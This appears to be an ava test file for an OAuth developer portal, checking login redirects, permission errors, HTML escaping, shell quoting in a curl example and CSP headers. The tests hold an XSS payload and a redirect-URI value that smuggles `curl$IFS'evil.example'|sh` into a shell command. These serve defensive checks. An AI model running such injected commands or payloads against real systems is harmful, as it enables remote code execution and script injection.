import test from 'ava';
import { memoryStorage } from 'koa-gatehouse/adapters/memory';

import { Browser } from '../harness/browser.ts';
import { startPlatform } from '../harness/platform.ts';
import { REPORTS, openArea, valueOf } from './area.ts';
import { openDeveloperPlatform } from './developers.ts';

test('without a session the page redirects to the login, and the login back to the page', async (t) => {
  const platform = await openDeveloperPlatform(t);
  const browser = new Browser();
  const wanted = await browser.get(platform.url('/developer/apps?search=night'));
  t.is(wanted.status, 303);
  const login = await browser.follow(wanted);
  t.is(login.heading, 'Sign in');
  t.true(login.text.includes('to continue to Acme Schools'));
  const refused = await browser.submit(login, 'Sign in', { login: 'dora@school.example', password: 'no' });
  t.is(refused.status, 422);
  const back = await browser.submit(refused, 'Sign in', {
    login: 'dora@school.example',
    password: 'password of dora',
  });
  t.is(back.status, 303);
  t.is(back.location?.href, platform.url('/developer/apps?search=night').href);
  t.is((await browser.follow(back)).heading, 'Your apps');
});

test('without the permission the page is 403, in the layout of the platform', async (t) => {
  const { browser, open, url } = await openArea(t, 'ann');
  const page = await open();
  t.is(page.status, 403);
  t.is(page.heading, 'You cannot open this page');
  t.true(page.text.includes('Missing permission to manage apps.'));
  t.true(page.html.includes('<bdi>ann@school.example</bdi>'));
  t.false(page.html.includes('Your apps'));
  const posted = await browser.post(url('/developer/apps/new'), new URLSearchParams({ name: 'x' }));
  t.is(posted.status, 403);
});

test('names, labels and events are escaped on each page', async (t) => {
  const storage = memoryStorage();
  const { open, registerFor, browser } = await openArea(t, 'dora', { storage });
  const name = `</h1><script>alert(1)</script>"'>&<b>`;
  const escaped = '&lt;/h1&gt;&lt;script&gt;alert(1)&lt;/script&gt;&#34;&#39;&gt;&amp;&lt;b&gt;';
  const { client } = await registerFor('dora', { name });
  await browser.submit(await open(`/${client.id}/secrets`), 'Add a secret', { label: name, expires: '' });
  // No form accepts this, but an import might.
  await storage.clients.update({ ...client, name: `${name}\u202Ecod\n` });
  await storage.audit.append(
    [{ id: 'x', at: Date.now(), type: 'token_refused', clientId: client.id, error: name, reason: name }],
    Infinity,
  );
  for (const path of [
    '',
    `/${client.id}`,
    `/${client.id}/permissions`,
    `/${client.id}/secrets`,
    `/${client.id}/activity`,
    `/${client.id}/delete`,
  ]) {
    const { html } = await open(path);
    t.notRegex(html, /<script>|<b>|\u202E/, path);
    t.true(html.includes(escaped), path);
    if (path !== '') t.true(html.includes(`<bdi>${escaped}cod</bdi>`), path);
  }
  const search = await open(`?search=${encodeURIComponent('"><script>')}`);
  t.true(search.html.includes('value="&#34;&gt;&lt;script&gt;"'));
});

test('the curl example quotes the redirect URI for a shell', async (t) => {
  const { open, registerFor } = await openArea(t);
  const { client } = await registerFor('dora', {
    ...REPORTS,
    redirectUris: ["https://a.example/cb?a=';curl$IFS'evil.example'|sh;'"],
  });
  const page = await open(`/${client.id}`);
  t.true(
    page.text.includes(
      String.raw`--data-urlencode 'redirect_uri=https://a.example/cb?a='\'';curl$IFS'\''evil.example'\''|sh;'\'''`,
    ),
  );
});

test('with an issuer path each URL of the pages has it', async (t) => {
  const { browser, open, url } = await openArea(t, 'dora', {}, '/auth');
  const list = await open();
  t.is(list.heading, 'Your apps');
  const created = await browser.submit(await open('/new'), 'Create app', {
    name: 'Nightly',
    grantType: 'client_credentials',
  });
  t.true(created.text.includes(url('/oauth/token').href));
  const page = await open(`/${valueOf(created, 'client-id')}`);
  for (const { html } of [list, created, page]) {
    const addresses = [...html.matchAll(/(?:href|src|action)="([^"#]+)"/g)].map(([, address]) => address!);
    t.true(addresses.length > 8);
    t.deepEqual(
      addresses.filter((address) => !/^(http:\/\/127\.0\.0\.1:\d+)?\/auth\//.test(address)),
      [],
    );
  }
});

test('without manage_apps in the gate there is no developer area', async (t) => {
  const platform = await startPlatform();
  t.teardown(async () => platform[Symbol.asyncDispose]());
  t.is((await new Browser().get(platform.url('/developer/apps'))).status, 404);
});

test('the Content-Security-Policy allows only the scripts of the page, and forms to the own origin', async (t) => {
  const { browser, open } = await openArea(t);
  const list = await open();
  t.is(
    list.response.headers.get('content-security-policy'),
    "default-src 'none'; style-src 'self'; img-src 'self'; base-uri 'none'; frame-ancestors 'none'; form-action 'self'",
  );
  t.false(list.html.includes('<script'));
  const form = await open('/new');
  const script = /<script src="([^"]+)" defer><\/script>/.exec(form.html)?.[1] ?? '';
  t.is(
    form.response.headers.get('content-security-policy'),
    `default-src 'none'; style-src 'self'; img-src 'self'; script-src ${script}; base-uri 'none'; frame-ancestors 'none'; form-action 'self'`,
  );
  const file = await browser.get(script);
  t.is(file.status, 200);
  t.is(file.response.headers.get('content-type'), 'text/javascript; charset=utf-8');
  t.is(file.response.headers.get('cache-control'), 'public, max-age=31536000, immutable');
});
